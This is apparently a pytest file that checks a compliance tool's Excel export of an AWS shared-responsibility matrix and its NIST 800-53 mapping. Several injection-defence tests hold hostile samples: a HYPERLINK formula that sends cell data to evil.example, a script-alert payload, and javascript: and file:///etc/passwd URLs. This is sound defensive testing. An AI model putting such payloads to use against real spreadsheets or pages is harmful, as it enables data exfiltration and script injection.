"""The workbook, read by an independent reader (openpyxl)."""

import os
import re
import zipfile
from collections import Counter
from io import BytesIO
from pathlib import Path

import msgspec
import openpyxl
import pytest
from tests.report.hostile import attacked, small

from demarcate.ledger import summarise
from demarcate.model import Status
from demarcate.report import formats, nist, xlsx, xlsx_rows
from demarcate.report.formats import RenderOptions
from demarcate.report.xlsx_style import PARTY_NAME, clean, cut, linkable, risky

SNAPSHOTS = Path(__file__).parent / "snapshots"
# the reader does not know Excel 2010's solid data bars, and says so
pytestmark = pytest.mark.filterwarnings("ignore:.*extension is not supported:UserWarning")
DEFAULT = RenderOptions()
SHEETS = ["Summary", "Matrix", "Duties", "NIST 800-53 Rev. 5", "Findings", "Skipped"]


@pytest.fixture
def ledger(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    return small(tmp_path)


@pytest.fixture
def hostile(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    return attacked(tmp_path)


def written(ledger, options=DEFAULT, **more):
    found, data = ledger
    return b"".join(xlsx.render(found, data, options, **more))


def book(ledger, **more):
    return openpyxl.load_workbook(BytesIO(written(ledger, **more)))


def rows(sheet):
    """The rows of a table as dictionaries by the head's titles."""
    found = list(sheet.iter_rows(values_only=True))
    return [dict(zip(found[0], row, strict=True)) for row in found[1:]]


def section(sheet, title):
    """Name → count of a block of the summary, with its total."""
    cells = [row[:2] for row in sheet.iter_rows(values_only=True)]
    start = next(number for number, row in enumerate(cells) if row[0] == title)
    found = {}
    for name, number in cells[start + 1 :]:
        if name is None:
            break
        found[name] = number
    return found


def test_the_workbook_has_the_sheets(ledger):
    assert book(ledger).sheetnames == SHEETS


def test_the_workbook_looks_as_it_did(ledger):
    found = book(ledger)
    lines = []
    for sheet in found:
        lines.append(f"== {sheet.title} {sheet.dimensions} frozen {sheet.freeze_panes} filter {sheet.auto_filter.ref}")
        lines += [
            " | ".join(str(value).replace("\n", " / ") for value in row if value not in (None, ""))
            for row in sheet.iter_rows(values_only=True)
            if (sheet.title in ("Summary", "Matrix", "Skipped") and row[0] not in ("Assessed as of", "Tool"))
            or (sheet.title == "Duties" and row[4] == "Undecided")
            or (sheet.title == "Findings" and row[4] in ("Kept", "Open"))
            or (str(row[0]) in ("AC-2", "MA-5", "SC-28(1)") and sheet.title.startswith("NIST"))
        ]
    text = "\n".join(lines) + "\n"
    stored = SNAPSHOTS / "xlsx.txt"
    if os.environ.get("UPDATE_SNAPSHOTS") == "1":
        stored.write_text(text, encoding="utf-8")
    assert text == stored.read_text(encoding="utf-8")


def test_the_same_ledger_gives_the_same_bytes(ledger):
    first = written(ledger)
    assert first == written(ledger)
    with zipfile.ZipFile(BytesIO(first)) as archive:
        assert {each.date_time for each in archive.infolist()} == {(1980, 1, 31, 0, 0, 0)}


def test_the_documents_date_is_the_assessments(ledger):
    found = book(ledger).properties
    assert found.created.isoformat() == formats.timestamp(ledger[0], RenderOptions()).removesuffix("Z")
    other = openpyxl.load_workbook(BytesIO(written(ledger, RenderOptions(timestamp="2026-01-02T03:04:05Z"))))
    assert other.properties.created.isoformat() == "2026-01-02T03:04:05"
    assert found.title == "Customer responsibility matrix"


def test_the_counts_are_the_ledgers(ledger):
    found, _ = ledger
    summary = book(ledger)["Summary"]
    by_status = section(summary, "Duties by status")
    assert by_status.pop("Total") == found.summary.duties
    assert by_status == dict(found.summary.by_status)
    by_party = section(summary, "Duties by party")
    assert by_party.pop("Total") == found.summary.duties - found.summary.by_status["not-applicable"]
    applicable = Counter(PARTY_NAME[each.party] for each in found.duties if each.status is not Status.NOT_APPLICABLE)
    assert by_party == {name: applicable[name] for name in PARTY_NAME.values()}
    outcomes = section(summary, "Findings by outcome")
    assert outcomes.pop("Total") == len(found.findings)
    assert outcomes == dict(found.summary.findings)


def test_there_is_a_row_for_every_duty(ledger):
    found, data = ledger
    table = rows(book(ledger)["Duties"])
    assert len(table) == found.summary.duties
    assert Counter(row["Status"] for row in table) == Counter(each.status.value for each in found.duties)
    names = {each.id: each.name for each in found.resources}
    for row, duty in zip(table, found.duties, strict=True):
        assert row["Responsibility"] == data.responsibilities[duty.responsibility].title
        assert row["Resource"] == names.get(duty.resource, duty.resource)
        assert row["Party"] == PARTY_NAME[duty.party]
        assert bool(row["AWS's part"]) == (duty.party != "customer")
        assert bool(row["Customer's part"]) == (duty.party != "aws")


def test_a_duty_shows_what_decides_it(ledger):
    table = {(row["Resource"], row["Responsibility"]): row for row in rows(book(ledger)["Duties"])}
    assert table["Open", "Authorization"]["Evidence"].startswith("acme-vault-locked: not-satisfied.")
    assert "Accepted: =a museum piece <b>" in table["Kept", "Authorization"]["Evidence"]
    unsure = table["Perhaps", "Operating system"]
    assert unsure["Status"] == "unknown"
    assert "acme-store.bare or acme-store.vault" in unsure["Evidence"]
    assert table["Open", "Authorization"]["Declared at"] == "shop.yaml:7"


def test_the_controls_are_those_of_the_view(ledger):
    table = rows(book(ledger)["NIST 800-53 Rev. 5"])
    view = nist.by_control(*ledger)
    assert [row["Control"] for row in table] == [each.id for each in view]
    for row, each in zip(table, view, strict=True):
        assert row["Control origination"] == each.origination.value
        assert row["Status"] == each.status.value
        assert {name: row[name.capitalize()] for name in each.counts} == dict(each.counts)
        assert row["Duties that apply"] == sum(each.parties.values())
    assert {row["Inherited from AWS?"] for row in table} == {"Yes", "Partial", "No"}


def test_the_matrix_shows_party_and_status(ledger):
    sheet = book(ledger)["Matrix"]
    head = [cell.value for cell in sheet[2]]
    cells = {
        row[0].value.split("\n")[1]: row for row in sheet.iter_rows(min_row=3) if row[0].value and "\n" in row[0].value
    }
    assert set(cells) == {"acme-store.bare", "acme-store.vault", "account.account"}
    bare = {title: cell.value for title, cell in zip(head, cells["acme-store.bare"], strict=True)}
    assert bare["Resources"] == 2
    assert bare["Facilities"] == "A"
    assert bare["Operating system"] == "C ?\n0/2"
    vault = {title: cell.value for title, cell in zip(head, cells["acme-store.vault"], strict=True)}
    assert vault["Authorization"] == "C ✗\n2/4"
    assert vault["Operating system"] == "A"
    fills = {cells["acme-store.vault"][head.index(each)].fill.fgColor.rgb for each in ("Facilities", "Authorization")}
    assert len(fills) == 2


def test_tables_are_ready_to_work_with(ledger):
    found = book(ledger)
    for name in SHEETS[2:]:
        sheet = found[name]
        assert sheet.auto_filter.ref
        assert sheet.freeze_panes in ("A2", "C2")
        assert sheet.print_title_rows == "$1:$1"
        assert sheet.print_area
    for sheet in found:
        assert sheet.page_setup.orientation == "landscape"
        assert sheet.page_setup.fitToWidth in (None, 1)  # 1 is what it is taken for
        assert sheet.page_setup.fitToHeight == 0
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert found["Matrix"].freeze_panes == "D3"
    bars = [str(key.sqref) for key in found["Summary"].conditional_formatting]
    assert len(bars) == 4


def test_rows_that_a_sheet_has_no_room_for_go_to_another(ledger):
    found = book(ledger, sheet_rows=50)
    numbers = -(-len(ledger[0].duties) // 50)
    names = ["Duties", *(f"Duties {number}" for number in range(2, numbers + 1))]
    assert [name for name in found.sheetnames if name.startswith("Duties")] == names
    together = [row for name in names for row in rows(found[name])]
    assert together == rows(book(ledger)["Duties"])
    assert {cell.value for cell in found["Summary"]["A"]} >= set(names)
    assert any("has no room for" in str(cell.value) or "no room" in str(cell.value) for cell in found["Summary"]["D"])


def test_nothing_from_an_estate_is_a_formula_or_a_link(hostile):
    content = written(hostile)
    found = openpyxl.load_workbook(BytesIO(content))
    for sheet in found:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                if cell.hyperlink is not None and cell.hyperlink.target is not None:
                    assert cell.hyperlink.target.startswith(("https://docs.", "https://aws.amazon.com/"))
                if isinstance(cell.value, str) and risky(cell.value):
                    assert cell.quotePrefix or sheet.title == "Summary", cell.value
    with zipfile.ZipFile(BytesIO(content)) as archive:
        for name in archive.namelist():
            text = archive.read(name).decode("utf-8")
            assert "<f>" not in text
            assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff\u202a-\u202e]", text), name


def test_attacks_stand_in_cells_as_text(hostile):
    table = rows(book(hostile)["Duties"])
    names = {row["Resource"] for row in table}
    assert '=HYPERLINK("http://evil.example/?"&A1,"x")' in names
    assert "<script>alert(1)</script>" in names
    assert "a␀b␟c\ufffd" in names
    assert len(table) == hostile[0].summary.duties


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@x", "\t=1", " =1", "＝1", "%0A", "|x"])
def test_what_a_spreadsheet_may_take_for_a_formula_is_marked(text):
    assert risky(text)


@pytest.mark.parametrize("text", ["a=1", "bucket", "1", ""])
def test_other_text_is_not_marked(text):
    assert not risky(text)


def test_text_is_cut_at_the_limit_of_a_cell():
    assert cut("x" * 32_767) == "x" * 32_767
    for text in ("x" * 40_000, "\U0001f4a3" * 20_000, "é" * 32_768):
        found = cut(text)
        assert len(found.encode("utf-16-le")) // 2 <= 32_767
        assert found.endswith("(cut: the cell is full)")
        assert found[:10] == text[:10]


def test_a_long_name_does_not_lose_its_cell(ledger):
    found, data = ledger
    long = msgspec.structs.replace(found.resources[0], name="n" * 40_000)
    changed = msgspec.structs.replace(found, resources=(long, *found.resources[1:]))
    names = [row["Resource"] for row in rows(book((changed, data))["Duties"])]
    assert names[0].startswith("nnn")
    assert len(names[0]) == 32_767


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://docs.aws.amazon.com/x.html", True),
        ("http://docs.aws.amazon.com/", False),
        ("javascript:alert(1)", False),
        ("file:///etc/passwd", False),
        ("https://a b", False),
        ("https://" + "a" * 2_100, False),
    ],
)
def test_only_pages_are_links(url, expected):
    assert linkable(url) is expected


def test_clean_keeps_letters_of_any_script():
    assert clean("Größe 東京 قاعدة") == "Größe 東京 قاعدة"


def test_an_empty_ledger_makes_a_workbook(ledger):
    found, data = ledger
    empty = msgspec.structs.replace(
        found, resources=(), duties=(), findings=(), skipped=(), connections=(), splits={}, summary=summarise([], 0)
    )
    sheets = book((empty, data))
    assert sheets.sheetnames == SHEETS
    assert rows(sheets["Duties"])[:1] == []


def test_skipped_shows_what_could_not_be_read_first(ledger):
    found, data = ledger
    error = msgspec.structs.replace(found.skipped[0], where="zzz", level="error")
    changed = msgspec.structs.replace(found, skipped=(*found.skipped, error))
    assert [row[0] for row in xlsx_rows.skipped(changed)] == ["error", "note"]
    assert data.responsibilities
